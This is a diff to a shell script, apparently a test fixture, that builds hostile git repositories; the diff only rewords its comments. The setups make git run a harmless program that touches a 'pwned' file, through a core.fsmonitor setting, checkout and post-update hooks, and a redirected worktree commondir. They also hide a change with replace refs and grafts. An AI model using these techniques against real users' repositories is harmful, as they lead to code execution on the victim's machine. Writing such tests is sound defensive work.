@@ -1,21 +1,22 @@
-# Makes a repository, or a part of one, through which git on the host runs something or hides
-# something. $1 says how.
+# Makes a repository, or a part of one, through which git on the host runs a program or hides a
+# change. $1 names the attack.
 evil=$PWD/evil.sh
 printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
-# A repository in the folder $1, with one commit.
+# Makes a repository with one commit in the folder $1.
 made() { git init -q "$1" && (cd "$1" && echo a >a && git add a && git commit -qm one); }
 # Names the folder $1 in the index as a submodule.
 named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
-# A git directory with settings of ours, in the folder $1.
+# Makes a git directory with settings of the attacker in the folder $1.
 settings() {
     mkdir -p "$1/refs" "$1/objects" && echo 'ref: refs/heads/main' >"$1/HEAD"
     printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = %s\n' "$evil" >"$1/config"
 }
-# A worktree deep/wt of the repository $1 whose settings are ours. Its git directory is $2.
+# Makes a worktree deep/wt of the repository $1 with settings of the attacker. Its git directory is
+# $2.
 worktree() {
     git -C "$1" worktree add -q "$PWD/deep/wt" && settings deep/settings && echo "$PWD/deep/settings" >"$2/commondir"
 }
-# Stops a rebase in the repository $1 before a line of ours.
+# Stops a rebase in the repository $1 before a command of the attacker.
 rebase() (
     cd "$1" && echo b >b && git add b && git commit -qm two
     GIT_SEQUENCE_EDITOR='sed -i 1s/pick/edit/' git rebase -q -i HEAD~1 2>/dev/null
@@ -29,7 +30,7 @@ hide() (
     mkdir -p .git/refs/replace && echo "$head" >".git/refs/replace/$head" && echo "$head" >.git/info/grafts
 )
 hook() { mkdir -p "$1/hooks" && cp evil.sh "$1/hooks/post-checkout"; }
-# A repository of ours that somebody may push to, deep/ours.git.
+# Makes a repository of the attacker, deep/ours.git, to which the user may push.
 ours() { git init -q --bare deep/ours.git && cp "$evil" deep/ours.git/hooks/post-update; }
 case $1 in
 root-remotes) ours && made . && mkdir .git/remotes && printf 'URL: deep/ours.git\nPush: HEAD:refs/heads/main\n' >.git/remotes/origin ;;
